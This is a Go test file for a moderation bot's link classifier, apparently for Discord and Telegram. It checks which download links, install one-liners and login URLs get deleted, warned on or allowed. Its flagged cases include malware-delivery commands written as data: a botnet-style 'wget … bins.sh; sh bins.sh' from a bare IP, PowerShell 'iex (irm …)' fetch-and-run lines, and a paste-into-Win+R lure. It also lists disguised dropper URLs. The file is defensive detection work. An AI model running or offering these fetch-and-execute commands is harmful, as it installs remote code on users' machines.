package bot_test

import (
	"strings"
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestFileDrops: a program anyone uploaded to Discord's attachments or a
// shared folder is judged as the attachment it was (an attached Setup.exe
// is deleted, and so is its link); a project's release on a code host,
// an image on Discord's CDN, and an official download stay allowed.
func TestFileDrops(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	tests := []struct {
		text string
		want bot.Level
	}{
		{"try my game https://cdn.discordapp.com/attachments/1111/2222/GameSetup.exe", bot.Delete},
		{"the order https://www.dropbox.com/s/q1w2e3/Order_2291.zip?dl=1", bot.Warn},
		{"screenshot https://cdn.discordapp.com/attachments/1111/2222/screenshot.png", bot.Allow},
		{"grab it from https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_windows_amd64.msi", bot.Allow},
		{"installer https://www.python.org/ftp/python/3.12.1/python-3.12.1-amd64.exe", bot.Allow},
	}
	for _, tc := range tests {
		v := judgeText(c, bot.Discord, tc.text).Verdict
		if v.Level != tc.want {
			t.Errorf("%q: %s (%.2f) %v, want %s", tc.text, v.Level, v.Score, v.Reasons, tc.want)
		}
	}
}

// TestInstallScripts: a shell script fetched over TLS from a named site is
// how projects publish their installers (curl -fsSL https://…/install.sh
// | sh): noted, not flagged alone. From an address, as botnets serve
// theirs to devices without TLS, it still warns; over plain HTTP it is
// judged as its HTTPS twin on a clean name (cmd42) and still warns on a
// cheap ending.
func TestInstallScripts(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"install with curl -fsSL https://get.example-tool.dev/install.sh | sh", false},
		{"curl -sSf https://toolchain.example.org/init.sh | bash", false},
		{"wget http://example-tool.dev/install.sh; sh install.sh", false},
		{"wget http://example-tool.top/install.sh; sh install.sh", true},
		{"cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh", true},
		{"https://45.61.12.34/x.sh", true},
	})
}

// TestNotedDownloadsNamedPlainly: a download that is only noted (a
// project's install script over TLS, a program from an official site) is
// named without the warning words the flagged kind carries, in both
// languages: "Looks safe" above "the kind botnets spread" contradicts
// itself. A script that still warns keeps them.
func TestNotedDownloadsNamedPlainly(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	detail := func(text string) (bot.Level, string, string) {
		t.Helper()
		v := judgeText(c, bot.Telegram, text).Verdict
		for i := range v.Reasons {
			if r := &v.Reasons[i]; r.Code == bot.CodeDangerousFile {
				return v.Level, r.DetailIn(bot.English), r.DetailIn(bot.Vietnamese)
			}
		}
		t.Fatalf("%q: no dangerous_file reason in %v", text, v.Reasons)
		return 0, "", ""
	}
	for _, text := range []string{
		"ollama install script https://ollama.com/install.sh",
		"get it from https://www.python.org/ftp/python/3.13.0/python-3.13.0-amd64.exe",
	} {
		level, en, vi := detail(text)
		if level != bot.Allow || strings.Contains(en, "botnet") || strings.Contains(vi, "botnet") || strings.Contains(en, "%!") {
			t.Errorf("%q: %s\n  en: %s\n  vi: %s\nwant allowed and named plainly", text, level, en, vi)
		}
	}
	level, en, vi := detail("cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh")
	if level == bot.Allow || !strings.Contains(en, "botnets spread") || !strings.Contains(vi, "botnet") {
		t.Errorf("a botnet script: %s\n  en: %s\n  vi: %s\nwant flagged with the botnet words", level, en, vi)
	}
}

// TestSelfNamedReleases: a versioned build named after the site that
// serves it over TLS is how projects publish (sqlite.org's
// sqlite-tools-…-3460000.zip, nmap.org's nmap-7.95-setup.exe): tech chat
// links them and they are not flagged (over plain HTTP too, read as the
// HTTPS twin: TestPlainHTTPBuildsReadAsTwins). A site that takes the
// product's name with more (anydesk-app.com), a file named after
// something else on a site, a screen saver and an address are judged as
// before.
func TestSelfNamedReleases(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"grab the CLI from https://www.sqlite.org/2024/sqlite-tools-win-x64-3460000.zip", false},
		{"https://www.wireshark.org/download/win64/Wireshark-4.4.2-x64.exe", false},
		{"scan with https://nmap.org/dist/nmap-7.95-setup.exe", false},
		{"https://curl.se/windows/dl-8.11.0_1/curl-8.11.0_1-win64-mingw.zip", false},
		{"https://anydesk-app.com/AnyDesk-8.0.1.exe", true},
		{"https://plumber-joe.com/wp-content/uploads/invoice-2024.exe", true},
		{"https://saver-site.com/saversite-1.2.scr", true},
		{"https://45.61.12.34/nmap-7.95-setup.exe", true},
		{"https://nmap.org/dist/nmap-setup.exe", false}, // no version, but Nmap's maker's own site (makerDownload)
	})
}

// TestPatternNamesItsWords: the link model's explanation never says "the
// words  in its path" with no word in it.
func TestPatternNamesItsWords(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	v := judgeText(c, bot.Telegram, "https://vietcombank.app/vietcombank-2.4.exe").Verdict
	for i := range v.Reasons {
		r := &v.Reasons[i]
		for _, s := range []string{r.DetailIn(bot.English), r.DetailIn(bot.Vietnamese)} {
			if strings.Contains(s, "  ") || strings.HasSuffix(s, ": ") {
				t.Errorf("%s: %q", r.Code, s)
			}
		}
	}
}

// TestProjectReleases: a build named after a product with its version
// (or a release channel), on a host of the site's that serves builds
// (download., dl., get., releases.), over TLS, from a site whose name and
// link say nothing against it, is noted, not flagged. A build on a
// site's own pages (a keepassx.org/downloads/ that is not KeePass's) is
// judged as a program: by its link it is a fake installer on an
// impostor's name or a compromised site (malware-urls4h); only knowing
// the site tells the maker's own (7-zip.org/a/, PuTTY's the.earth.li:
// makerDownload's table of popular programs) from it. Droppers keep
// their verdict: named for what they pass for (setup, invoice, crack),
// in a blog's upload folder, on a site that takes the product's name
// with a download word, at an address, with no version,
// or at the root of a site named after the product.
func TestProjectReleases(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"https://www.7-zip.org/a/7z2408-x64.exe", false}, // 7-Zip's maker's own site (makerDownload)
		{"gimp for windows https://download.gimp.org/gimp/v2.10/windows/gimp-2.10.38-setup.exe", false},
		{"https://downloads.xiph.org/releases/flac/flac-1.4.3-win.zip", false},
		{"msi is here https://the.earth.li/~sgtatham/putty/0.82/w64/putty-64bit-0.82-installer.msi", false}, // PuTTY's (makerDownload)
		{"https://download.wireguard.com/windows-client/wireguard-amd64-0.5.3.msi", false},
		{"https://downloads.raspberrypi.com/imager/imager_1.9.0.exe", false},
		{"https://cdimage.example-linux.org/releases/24.10/examplelinux-24.10-desktop-amd64.iso", false},
		{"putty is at https://the.earth.li/~sgtatham/putty/latest/w64/putty.exe", false}, // PuTTY's (makerDownload)
		{"https://static.greenfieldlaw.com/downloads/AdobeReader_2024.001.20643.msi", true},
		{"https://keepassx.org/downloads/KeePass-2.57-Setup.exe", true},
		{"https://downloads.example-editor.org/stable/win/exampleeditor-latest.msi", false},
		{"https://cleanhost-example.com/latest/setup.exe", true},
		{"https://download.examplevnc.com/ExampleVNCViewer.exe", false},
		{"https://anydesk.app/anydesk-8.0.1.exe", true},
		{"get putty from https://putty.one/putty-64bit-0.81-installer.msi", true},
		{"https://obs-studio.net/OBS-Studio-30.1.2-Full-Installer-x64.exe", true},
		{"https://teamviewer.top/download/TeamViewer_Setup_15.52.exe", true},
		{"https://cleanhost-example.com/latest/invoice-viewer.exe", true},
		{"https://45.61.12.34/a/7z2408-x64.exe", true},
		{"https://getanydesk.com/AnyDesk-8.0.1.exe", true},
		{"https://anydesk-download.com/AnyDesk-8.0.1.exe", true},
		{"https://plumber-joe.com/wp-content/uploads/2024/11/Statement-1.2.zip", true},
		{"https://cleanhost-example.com/files/setup-2.1.exe", true},
		{"https://cleanhost-example.com/files/Invoice_2024.11.zip", true},
		{"https://cleanhost-example.com/files/photoshop-2024-crack.rar", true},
		{"https://cleanhost-example.com/files/tool.exe", true},
		{"https://cleanhost-example.com/files/Document_Scan.pdf.exe", true},
	})
}

// TestPowerShellInstallers: a project's install.ps1 over TLS from a plain
// site, as install one-liners fetch it, is noted like its install.sh;
// a script named otherwise or at an address is not, nor one over plain
// HTTP from a name that takes the project's (over plain HTTP from the
// project's own name it is read as its HTTPS twin: cmd42).
func TestPowerShellInstallers(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"irm https://bun.sh/install.ps1 | iex", false},
		{"iwr https://deno.land/install.ps1 -useb | iex", false},
		{"powershell -c \"iex (irm https://45.61.12.34/install.ps1)\"", true},
		{"irm http://bun.sh/install.ps1 | iex", false},
		{"irm http://bun-sh.com/install.ps1 | iex", true},
		{"press Win+R and paste: powershell iex (irm https://cleanhost-example.com/verify.ps1)", true},
	})
}

// TestIntranetNames: a name under no top-level domain of the internet
// (.lan, .internal, .corp, .local) resolves only on a local network, as
// localhost does: a login page there is a colleague's service.
func TestIntranetNames(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"grafana login http://grafana.acme.lan/login", false},
		{"https://vault.ops.internal/ui/vault/auth?with=oidc", false},
		{"printer admin http://printer-3f.office.corp/login.html", false},
		{"grafana login http://grafana-login-secure.top/login", true},
	})
}
